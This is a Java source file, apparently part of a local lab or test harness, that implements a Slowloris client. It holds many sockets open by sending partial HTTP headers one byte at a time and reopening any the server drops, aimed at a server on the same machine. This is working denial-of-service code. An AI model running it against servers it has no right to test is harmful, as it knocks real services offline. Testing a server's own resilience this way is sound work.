package dev.fivefold.lab.storm;

import dev.fivefold.lab.LabFailure;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.StandardSocketOptions;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;
import org.jspecify.annotations.Nullable;

/**
 * Clients that send the head of a request, a byte at a time and never all of it, so that each keeps a connection for nothing. Whoever
 * is hung up on comes again. Starts and stops on one thread, drips on one of its own.
 */
final class Slowloris {

    private static final byte[] BEGIN =
            "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] DRIP = {'x'};

    private static final Duration BETWEEN_DRIPS = Duration.ofMillis(500);
    private static final int PATIENCE_MS = 2000;

    private final InetSocketAddress server;
    private final @Nullable Socket[] clients;
    private final AtomicInteger reopened = new AtomicInteger();
    private @Nullable Thread dripper;

    /**
     * Prepares.
     *
     * @param server of this machine
     * @param clients how many connections
     */
    Slowloris(InetAddress server, int port, int clients) {
        this.server = new InetSocketAddress(server, port);
        this.clients = new Socket[clients];
    }

    /**
     * Opens all connections, and goes on dripping.
     *
     * @throws LabFailure if one cannot be opened; then none is left open
     */
    void start() {
        try {
            for (int i = 0; i < clients.length; i++) {
                clients[i] = open();
            }
        } catch (IOException e) {
            close();
            throw new LabFailure(
                    "cannot open %d connections to %s (%s): see ulimit -n"
                            .formatted(clients.length, server, e.getMessage()),
                    e);
        }
        dripper = Thread.ofPlatform().daemon().name("slowloris").start(this::drip);
    }

    /** How many connections the server has closed so far, in the place of each of which there is a new one. */
    int reopened() {
        return reopened.get();
    }

    /** Stops, and closes all connections. */
    void stop() throws InterruptedException {
        if (dripper != null) {
            dripper.interrupt();
            dripper.join();
        }
        close();
    }

    private Socket open() throws IOException {
        Socket client = new Socket();
        try {
            client.setTcpNoDelay(true);
            client.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
            client.connect(server, PATIENCE_MS);
            client.getOutputStream().write(BEGIN);
            return client;
        } catch (IOException e) {
            client.close();
            throw e;
        }
    }

    private void drip() {
        try {
            while (true) {
                Thread.sleep(BETWEEN_DRIPS);
                for (int i = 0; i < clients.length; i++) {
                    dripOrOpen(i);
                }
            }
        } catch (InterruptedException e) {
            // It is stopped.
        }
    }

    private void dripOrOpen(int i) {
        try {
            Socket client = clients[i];
            if (client == null) {
                clients[i] = open();
                reopened.incrementAndGet();
            } else {
                client.getOutputStream().write(DRIP);
            }
        } catch (IOException e) { // The server has closed it, or takes none for now: the next round tries again.
            close(i);
        }
    }

    private void close() {
        for (int i = 0; i < clients.length; i++) {
            close(i);
        }
    }

    private void close(int i) {
        Socket client = clients[i];
        clients[i] = null;
        if (client != null) {
            try {
                client.close();
            } catch (IOException e) {
                // It is gone either way.
            }
        }
    }
}
